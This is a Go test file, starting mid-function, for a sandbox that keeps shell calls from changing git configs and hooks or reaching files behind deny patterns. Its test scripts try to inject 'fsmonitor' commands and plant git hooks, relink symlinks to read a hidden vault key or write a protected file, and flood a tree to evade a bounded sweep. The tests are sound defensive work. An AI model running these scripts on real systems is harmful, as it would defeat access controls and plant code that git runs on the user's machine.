		`mkdir ~/githooks-global && echo id > ~/githooks-global/pre-commit; ` +
		`mkdir -p ~/git-template/hooks && echo id > ~/git-template/hooks/post-checkout; echo done`
	f.attack(t, s, script, f.repo, f.home)
	f.unchanged(t)
	for _, p := range []string{filepath.Join(f.repo, ".githooks", "post-checkout"), filepath.Join(f.home, "githooks-global"), filepath.Join(f.home, "git-template")} {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s is still there after the call", p)
		}
	}
}

// TestSeparateGitDirProtected: a repository whose .git is a file naming a git dir elsewhere in
// the writable dir (git init --separate-git-dir) has that dir's config and hooks protected as
// .git's are: a call can neither change the config nor add a hook there, by any name; and a
// worktree's git dir (.git/worktrees/NAME, whose commondir names the main git dir) leads
// to the main repository's config and hooks too.
func TestSeparateGitDirProtected(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	proj := filepath.Join(f.home, "sep")
	if err := os.MkdirAll(proj, 0o755); err != nil {
		t.Fatal(err)
	}
	hostGit(t, proj, "init", "-q", "--separate-git-dir", filepath.Join(proj, "gitstore"), ".")
	// A submodule's git dir, kept in the separate git dir's modules/.
	mod := filepath.Join(proj, "gitstore", "modules", "sub")
	if err := os.MkdirAll(filepath.Join(mod, "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(mod, "config"), []byte("[core]\n"), 0o644)
	chownR(t, proj)
	for _, cfg := range []string{filepath.Join(proj, "gitstore", "config"), filepath.Join(mod, "config")} {
		b, _ := os.ReadFile(cfg)
		f.files[cfg] = string(b)
	}
	const script = `s=gitstore; ` +
		`( echo '[core] fsmonitor = id' >> ${s}/config ) 2>/dev/null && echo 'ATTACK-WORKED config'; ` +
		`( echo id > ${s}/hooks/pre-commit ) 2>/dev/null && echo 'ATTACK-WORKED hook'; ` +
		`( echo '[core] fsmonitor = id' >> ${s}/modules/sub/config ) 2>/dev/null && echo 'ATTACK-WORKED module config'; ` +
		`( echo id > ${s}/modules/sub/hooks/post-checkout ) 2>/dev/null && echo 'ATTACK-WORKED module hook'; ` +
		`( rm -rf ${s}/hooks && mkdir ${s}/hooks && echo id > ${s}/hooks/pre-commit ) 2>/dev/null && echo 'ATTACK-WORKED hooks dir'; echo done`
	f.attack(t, s, script, proj, proj)
	f.unchanged(t)
	if _, err := os.Lstat(filepath.Join(proj, "gitstore", "hooks", "pre-commit")); err == nil {
		t.Error("a hook made in the separate git dir is still there after the call")
	}

	main, wt := filepath.Join(f.home, "main"), filepath.Join(f.home, "wtgit")
	if err := os.MkdirAll(filepath.Join(main, ".git", "worktrees", "w"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(main, ".git", "worktrees", "w", "commondir"), []byte("../..\n"), 0o644)
	os.MkdirAll(wt, 0o755)
	os.WriteFile(filepath.Join(wt, ".git"), []byte("gitdir: ../main/.git/worktrees/w\n"), 0o644)
	got, err := gitNamedPaths(ProtectedCandidates([]string{wt}, wt, f.home), nil, f.home)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{filepath.Join(main, ".git", "worktrees", "w", "config.worktree"),
		filepath.Join(main, ".git", "config"), filepath.Join(main, ".git", "hooks")} {
		if !slices.Contains(got, want) {
			t.Errorf("%s not among %v", want, got)
		}
	}
}

// TestGitNamedPathsInLinkedWorktree: a relative core.hooksPath is where git runs hooks in
// every worktree, a linked one (whose .git is a file, its config the main repository's) too;
// includes are taken relative to the including file, ~/ as the home.
func TestGitNamedPathsInLinkedWorktree(t *testing.T) {
	d := t.TempDir()
	home, main, wt := d, filepath.Join(d, "main"), filepath.Join(d, "wt")
	os.MkdirAll(filepath.Join(main, ".git"), 0o755)
	os.MkdirAll(wt, 0o755)
	os.WriteFile(filepath.Join(main, ".git", "config"), []byte("[core]\n\thooksPath = .githooks ; versioned\n\tfsmonitor = ./tools/fsmon\n[include]\n\tpath = ../shared.gitconfig\n"+
		"[alias]\n\tx = \"!./bin/x --all\"\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n[diff \"img\"]\n\ttextconv = ~/bin/exif\n"), 0o644)
	os.WriteFile(filepath.Join(wt, ".git"), []byte("gitdir: "+filepath.Join(main, ".git", "worktrees", "wt")+"\n"), 0o644)
	os.WriteFile(filepath.Join(home, ".gitconfig"), []byte("[include]\n\tpath = \"~/.gitconfig.local\"\n"), 0o644)
	got, err := gitNamedPaths(ProtectedCandidates([]string{wt, main}, wt, home), nil, home)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{filepath.Join(wt, ".githooks"), filepath.Join(main, ".githooks"),
		filepath.Join(main, "shared.gitconfig"), filepath.Join(home, ".gitconfig.local"),
		// Programs git runs, named by path: relative ones in each worktree.
		filepath.Join(wt, "tools/fsmon"), filepath.Join(main, "bin/x"), filepath.Join(home, "bin/exif")} {
		if !slices.Contains(got, want) {
			t.Errorf("%s not among %v", want, got)
		}
	}
	if slices.ContainsFunc(got, func(p string) bool { return strings.Contains(p, "git-lfs") }) {
		t.Errorf("a program found on PATH is named: %v", got)
	}
}

// TestGitNamedPathsOfBareRepository: a writable dir that is itself a git dir (a bare
// repository as a session's dir) has its config and hooks protected as a .git dir's are, and
// what its config names too; a dir that only holds a HEAD file is no git dir.
func TestGitNamedPathsOfBareRepository(t *testing.T) {
	d := t.TempDir()
	bare, plain := filepath.Join(d, "bare.git"), filepath.Join(d, "plain")
	for _, p := range []string{filepath.Join(bare, "objects"), filepath.Join(bare, "refs"), plain} {
		os.MkdirAll(p, 0o755)
	}
	os.WriteFile(filepath.Join(bare, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
	os.WriteFile(filepath.Join(bare, "config"), []byte("[core]\n\tbare = true\n\thooksPath = myhooks\n"), 0o644)
	os.WriteFile(filepath.Join(plain, "HEAD"), []byte("not git\n"), 0o644)
	got, err := gitNamedPaths(ProtectedCandidates([]string{bare, plain}, bare, d), nil, d)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{filepath.Join(bare, "config"), filepath.Join(bare, "hooks"), filepath.Join(bare, "info/attributes"), filepath.Join(bare, "myhooks")} {
		if !slices.Contains(got, want) {
			t.Errorf("%s not among %v", want, got)
		}
	}
	if slices.ContainsFunc(got, func(p string) bool { return strings.HasPrefix(p, plain+"/") }) {
		t.Errorf("a dir with only a HEAD file is taken for a git dir: %v", got)
	}
}

// linkedDirFixture makes, in a new dir under /var/tmp owned by nobody, proj and a dir beside
// it holding file with content, and proj/link leading to that dir (to target as written, or
// its absolute path when target is ""). It returns the three dirs.
func linkedDirFixture(t *testing.T, dir, file, content, link, target string) (base, proj, real string) {
	t.Helper()
	base = hostTempDir(t, "/var/tmp", "sbx-"+link+"link-")
	proj, real = filepath.Join(base, "proj"), filepath.Join(base, dir)
	for _, d := range []string{proj, real} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if target == "" {
		target = real
	}
	if err := os.WriteFile(filepath.Join(real, file), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, filepath.Join(proj, link)); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(base, 0o755); err != nil {
		t.Fatal(err)
	}
	chownR(t, base)
	return base, proj, real
}

// TestHiddenThroughLinkKeptLeadingThere: a Read deny naming a place through the user's link
// in a writable dir (secrets -> ~/vault) hides where the link leads; a call that removes or
// retargets the link gets it back after it ends, so the next call still hides ~/vault.
func TestHiddenThroughLinkKeptLeadingThere(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	// Through the link (secrets/**), and matching the link itself (Read(secrets/**): any depth).
	for _, tail := range []string{"/secrets/**", "/**/secrets/**"} {
		_, proj, vault := linkedDirFixture(t, "vault", "key", "VAULTSECRET\n", "secrets", "")
		for i, script := range []string{
			`cat ` + vault + `/key; rm secrets && ln -s /nonexistent secrets && echo relinked`,
			`cat ` + vault + `/key; rm secrets && echo removed`,
			`cat ` + vault + `/key; echo done`,
			// Its dir made unsearchable, last: the sweep opens it up to put the link back.
			`cat ` + vault + `/key; rm secrets && ln -s /nonexistent secrets && chmod 000 . && echo locked`,
		} {
			sp := &Spec{Path: "/bin/bash", Args: []string{"-c", script}, Dir: proj,
				Env: []string{"PATH=/usr/bin:/bin", "LANG=C.UTF-8"}, UID: nobody, GID: nobody,
				WritableDirs: []string{proj}, HidePatterns: []string{escapePattern(proj) + tail},
				MoveAsideCreated: true, Session: "hidelink", Call: fmt.Sprintf("c%d", i)}
			_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
			if err != nil {
				t.Fatalf("%s, call %d: %v", tail, i, err)
			}
			if strings.Contains(out, "VAULTSECRET") {
				t.Fatalf("%s, call %d read what the deny hides:\n%s", tail, i, out)
			}
			if got, err := os.Readlink(filepath.Join(proj, "secrets")); err != nil || got != vault {
				t.Errorf("%s: after call %d the link leads to %q (%v), want %s", tail, i, got, err, vault)
			}
		}
	}
}

// TestEditDenyThroughLinkKeptLeadingThere: an Edit deny naming a file through the user's link
// (conf -> ../shared) holds where the link leads; a call that removes the link gets it back,
// so the next call cannot write ../shared/prod.yaml, which the link no longer named.
func TestEditDenyThroughLinkKeptLeadingThere(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	base, proj, shared := linkedDirFixture(t, "shared", "prod.yaml", "orig\n", "conf", "../shared")
	for i, script := range []string{
		`echo evil >> ` + shared + `/prod.yaml; rm conf && echo removed`,
		`echo evil >> ` + shared + `/prod.yaml; echo done`,
	} {
		sp := &Spec{Path: "/bin/bash", Args: []string{"-c", script}, Dir: proj,
			Env: []string{"PATH=/usr/bin:/bin", "LANG=C.UTF-8"}, UID: nobody, GID: nobody,
			WritableDirs: []string{base}, ProtectedPatterns: []string{escapePattern(proj) + "/conf/prod.yaml"},
			MoveAsideCreated: true, Session: "editlink", Call: fmt.Sprintf("c%d", i)}
		if _, _, err := run(t, s, ctxTimeout(t, 20*time.Second), sp); err != nil {
			t.Fatalf("call %d: %v", i, err)
		}
		if b, _ := os.ReadFile(filepath.Join(shared, "prod.yaml")); string(b) != "orig\n" {
			t.Fatalf("after call %d the file the Edit deny names holds %q", i, b)
		}
	}
}

// write writes files (absolute path: content) and keeps them among the files a test checks are
// unchanged.
func (f *protectFixture) write(t *testing.T, files map[string]string) {
	t.Helper()
	writeFiles(t, files)
	for p, c := range files {
		f.files[p] = c
	}
}

// TestOwnDirInTheWayThroughLink: the dir that keeps a path from being seen is the one a link
// on the way leads to, not the link: the caller's link to another user's unsearchable dir is
// no dir of the caller's to chmod, and its link to its own such dir is named by where it leads.
func TestOwnDirInTheWayThroughLink(t *testing.T) {
	t.Parallel()
	if os.Geteuid() != 0 {
		t.Skip("needs root: dirs of two owners, looked at as one of them")
	}
	base := hostTempDir(t, "/var/tmp", "sbx-inway-")
	os.Chmod(base, 0o755)
	for _, d := range []string{"mine", "theirs"} {
		os.Mkdir(filepath.Join(base, d), 0)
	}
	os.Chown(filepath.Join(base, "mine"), nobody, nobody)
	for l, to := range map[string]string{"to-mine": "mine", "to-theirs": "theirs"} {
		os.Symlink(to, filepath.Join(base, l))
		os.Lchown(filepath.Join(base, l), nobody, nobody)
	}
	want := map[string]string{
		"mine/x": filepath.Join(base, "mine"), "to-mine/x": filepath.Join(base, "mine"),
		"theirs/x": "", "to-theirs/x": "", "to-theirs/a/b": "",
	}
	for p, w := range want {
		var got string
		if err := asCaller(nobody, nobody, nil, func() { got = newFSView().ownDirInTheWay(filepath.Join(base, p), nobody) }); err != nil {
			t.Fatal(err)
		}
		if got != w {
			t.Errorf("%s: %q, want %q", p, got, w)
		}
	}
}

// TestEditDenySweepSurvivesAFlood: a call that makes its tree too big for the bounded walk
// (more entries than maxPatternWalk) and then a file an Edit deny pattern names still has that
// file moved aside: the sweep after the call walks the tree whole, once. (The kernel lets the
// file be made: only existing matches are mounted read-only.)
func TestEditDenySweepSurvivesAFlood(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	work := filepath.Join(f.home, "flood")
	os.MkdirAll(filepath.Join(work, "sub"), 0o755)
	chownR(t, f.home)
	script := fmt.Sprintf(`mkdir junk && cd junk && seq -f j%%06g 1 %d | xargs touch && cd .. && echo PWN > sub/evil.txt && echo done`, maxPatternWalk+1000)
	sp := f.spec(script, work, work)
	sp.ProtectedPatterns = []string{escapePattern(work) + "/**/evil.txt"}
	sp.GuardPatterns = sp.ProtectedPatterns
	sp.MoveAsideCreated = true
	sp.Call = "flood"
	_, out, err := run(t, s, ctxTimeout(t, 60*time.Second), sp)
	if err != nil || !strings.Contains(out, "done") {
		t.Fatalf("flood: %v %q", err, out)
	}
	if b, err := os.ReadFile(filepath.Join(work, "sub", "evil.txt")); err == nil {
		t.Errorf("sub/evil.txt, which an Edit deny pattern names, stayed after a flood: %q", b)
	}
}

// TestRunningSweepPacesItsWalk: a sweep while the call runs walks the Edit deny patterns at
// most a twentieth of the time (the walk is the daemon's CPU), and the sweep after the call
// always walks: what was made between paced walks is moved aside then.
func TestRunningSweepPacesItsWalk(t *testing.T) {
	s := newTestSandbox(t, Config{})
	work := hostTempDir(t, "/var/tmp", "sbx-pace-")
	os.Chmod(work, 0o755)
	for i := 0; i < 2000; i++ {
		os.WriteFile(filepath.Join(work, fmt.Sprintf("f%04d", i)), nil, 0o644)
	}
	chownR(t, work)
	pats := []string{escapePattern(work) + "/**/evil*.txt"}
	spec := Spec{Path: "/bin/true", Dir: work, WritableDirs: []string{work}, UID: nobody, GID: nobody,
		Session: "pace", Call: "c", ProtectedPatterns: pats, GuardPatterns: pats, MoveAsideCreated: true}
	p := plannedProcess(t, s, spec)
	if p.guardWalk == nil {
		t.Fatal("the plan has no pattern guard")
	}
	write := func(name string) string {
		f := filepath.Join(work, name)
		os.WriteFile(f, []byte("x"), 0o644)
		os.Chown(f, nobody, nobody)
		return f
	}
	first := write("evil1.txt")
	began := time.Now()
	p.moveAsideCreated(true)
	if _, err := os.Stat(first); err == nil {
		t.Errorf("the first running sweep left %s", first)
	}
	if !p.walkNext.After(began) {
		t.Errorf("the next walk may come at once (%v), not paced by this one's time", p.walkNext.Sub(began))
	}
	second := write("evil2.txt")
	p.walkNext = time.Now().Add(time.Hour) // a costly walk just ran: the running sweeps wait
	p.moveAsideCreated(true)
	if _, err := os.Stat(second); err != nil {
		t.Errorf("a paced running sweep walked anyway: %v", err)
	}
	p.moveAsideCreated(false)
	if _, err := os.Stat(second); err == nil {
		t.Errorf("the sweep after the call left %s", second)
	}
}

// TestGitNamedPathsReadEveryConfig: what git configs name is read from every config that
// exists, whatever the number of candidates that do not (a cwd seven dirs deep once used up
// the bound before ~/.gitconfig and the includes were read), from the submodules' configs
// (their relative paths in the submodule's worktree), from the repository a session's dir
// lies in, and for every key whose value git runs, each path in a command's words. A config
// that cannot be read, or more configs than are read, fail the whole.
func TestGitNamedPathsReadEveryConfig(t *testing.T) {
	d := t.TempDir()
	home, proj := d, filepath.Join(d, "proj")
	deep := filepath.Join(proj, "a/b/c/d/e/f/g/h")
	for _, p := range []string{deep, filepath.Join(proj, ".git/modules/lib/modules/inner"), filepath.Join(proj, "lib")} {
		os.MkdirAll(p, 0o755)
	}
	os.WriteFile(filepath.Join(proj, ".git/config"), []byte("[include]\n\tpath = ../shared.gitconfig\n"+
		"[difftool \"x\"]\n\tcmd = tools/dt.sh $LOCAL\n[alias]\n\tt = !sh app/tools/t.sh --all\n[remote \"origin\"]\n\tuploadpack = ./tools/up.sh\n"), 0o644)
	os.WriteFile(filepath.Join(proj, "shared.gitconfig"), []byte("[core]\n\thooksPath = tools/hooks\n"), 0o644)
	os.WriteFile(filepath.Join(home, ".gitconfig"), []byte("[core]\n\tfsmonitor = ~/bin/fsmon\n"), 0o644)
	os.WriteFile(filepath.Join(proj, ".git/modules/lib/config"), []byte("[core]\n\tfsmonitor = tools/fsm.sh\n\thooksPath = .githooks\n"), 0o644)
	os.WriteFile(filepath.Join(proj, ".git/modules/lib/modules/inner/config"), []byte("[core]\n\thooksPath = hk\n"), 0o644)
	got, err := gitNamedPaths(ProtectedCandidates([]string{proj}, deep, home), nil, home)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{filepath.Join(proj, "tools/hooks"), filepath.Join(home, "bin/fsmon"),
		filepath.Join(proj, "tools/dt.sh"), filepath.Join(proj, "app/tools/t.sh"), filepath.Join(proj, "tools/up.sh"),
		filepath.Join(proj, "lib/tools/fsm.sh"), filepath.Join(proj, "lib/.githooks"), filepath.Join(proj, "lib/inner/hk")} {
		if !slices.Contains(got, want) {
			t.Errorf("%s not among %v", want, got)
		}
	}

	// A session in one package of a monorepo: the repository's config, above the session's
	// dir, names hooks inside it.
	app := filepath.Join(d, "mono/app")
	os.MkdirAll(app, 0o755)
	os.MkdirAll(filepath.Join(d, "mono/.git"), 0o755)
	os.WriteFile(filepath.Join(d, "mono/.git/config"), []byte("[core]\n\thooksPath = app/githooks\n"), 0o644)
	got, err = gitNamedPaths(append(ProtectedCandidates([]string{app}, app, home), enclosingRepos(newFSView(), []string{app})...), nil, home)
	if err != nil || !slices.Contains(got, filepath.Join(app, "githooks")) {
		t.Errorf("monorepo: %v %v", got, err)
	}

	// A config that is there but cannot be read (a FIFO, which must not block the read), and
	// more configs than are read.
	fifo := filepath.Join(d, "fifo.gitconfig")
	if err := unix.Mkfifo(fifo, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := gitNamedPaths(nil, []string{fifo}, home); !errors.Is(err, ErrBadSpec) {
		t.Errorf("a FIFO for a config: %v", err)
	}
	var many []string
	for i := range maxGitNamedConfigs + 1 {
		p := filepath.Join(d, fmt.Sprintf("c%d.gitconfig", i))
		os.WriteFile(p, []byte("[core]\n"), 0o644)
		many = append(many, p)
	}
	if _, err := gitNamedPaths(nil, many, home); !errors.Is(err, errTooManyGitConfigs) {
		t.Errorf("%d configs: %v", len(many), err)
	}
}

// TestGitNamedPathsReadAsGitReads: a config is read as git reads it: a value continued on the
// next line, a byte-order mark, a key in any subsection (gpg.ssh), $HOME in a command, more
// keys whose value git runs; /dev/null (GIT_CONFIG_SYSTEM=/dev/null) is an empty config.
func TestGitNamedPathsReadAsGitReads(t *testing.T) {
	home := t.TempDir()
	cfgs := map[string]string{
		"cont": "[core]\n\tfsmonitor = \\\n~/tools/fsm\n",
		"bom":  "\xef\xbb\xbf[core]\n\tpager = ~/tools/pager\n",
		"gpg":  "[gpg \"ssh\"]\n\tdefaultKeyCommand = ~/tools/sshkey\n",
		"home": "[alias]\n\tx = !$HOME/tools/aliasx\n\ty = !${HOME}/tools/aliasy --all\n",
		"keys": "[tar \"tgz\"]\n\tcommand = ~/tools/tgz\n[core]\n\talternateRefsCommand = ~/tools/alt\n[imap]\n\ttunnel = ~/tools/imap\n",
		"null": "[include]\n\tpath = /dev/null\n",
	}
	var extra []string
	for name, text := range cfgs {
		p := filepath.Join(home, name+".gitconfig")
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		extra = append(extra, p)
	}
	got, err := gitNamedPaths(nil, append(extra, os.DevNull), home)
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []string{"fsm", "pager", "sshkey", "aliasx", "aliasy", "tgz", "alt", "imap"} {
		if want := filepath.Join(home, "tools", w); !slices.Contains(got, want) {
			t.Errorf("%s not among %v", want, got)
		}
	}
}
